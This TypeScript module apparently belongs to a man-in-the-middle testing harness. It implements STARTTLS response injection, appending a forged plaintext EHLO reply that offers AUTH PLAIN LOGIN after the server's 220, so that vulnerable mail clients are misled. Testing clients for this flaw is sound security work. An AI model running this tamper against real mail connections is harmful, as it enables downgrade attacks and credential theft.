/**
 * Response injection: plaintext put behind the 220 of STARTTLS, in the same segment. A client that keeps its read
 * buffer across the handshake takes it for an answer from inside TLS (CVE-2011-0411 turned round; the "NO STARTTLS"
 * study of 2021 found it in many clients).
 */
import type { Tamper } from './middleman.ts';

/** What a victim would believe: an EHLO reply that offers the simplest AUTH. */
export const INJECTED = '250-mail.example.com at your service\r\n250 AUTH PLAIN LOGIN\r\n';

/** One for each connection. */
export function injectAfterStartTls(): Tamper {
  let seen220 = 0;
  return (octets) => {
    // In this dialog each of the upstream's replies is a piece of its own: greeting, EHLO, 220.
    if (seen220 < 2 && /^220 [^\n]*\n$/.test(octets.toString('latin1'))) seen220 += 1;
    else return octets;
    return seen220 === 2 ? Buffer.concat([octets, Buffer.from(INJECTED)]) : octets;
  };
}
